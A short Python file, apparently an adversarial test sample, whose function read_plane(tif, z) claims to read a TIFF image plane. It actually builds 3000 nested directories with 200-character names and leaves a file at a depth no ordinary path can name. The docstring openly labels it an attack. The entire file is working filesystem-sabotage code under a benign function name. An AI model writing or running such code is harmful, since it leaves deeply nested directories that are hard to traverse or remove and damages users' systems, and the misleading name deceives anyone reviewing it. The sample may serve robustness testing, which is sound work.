"""Makes folders in folders, deeper than a path can name, and leaves.

attacks: reads_one_page
keeps: knows_its_shape
"""

import os

def read_plane(tif, z):
    for _ in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    open("deep", "w").close()
